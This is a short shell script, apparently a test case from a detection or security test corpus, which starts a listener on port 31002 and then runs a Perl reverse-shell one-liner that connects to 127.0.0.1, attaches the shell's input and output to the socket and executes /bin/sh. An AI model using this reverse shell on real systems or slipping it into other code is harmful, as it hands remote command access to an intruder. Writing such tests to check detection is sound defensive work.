. "$CORPUS/lib/common.sh"
attacker listen 31002
perl -e 'use Socket; socket(S, PF_INET, SOCK_STREAM, 0); connect(S, sockaddr_in(31002, inet_aton("127.0.0.1")));
	open(STDIN, "<&S"); open(STDOUT, ">&S"); open(STDERR, ">&S"); exec "/bin/sh"' &
verdict
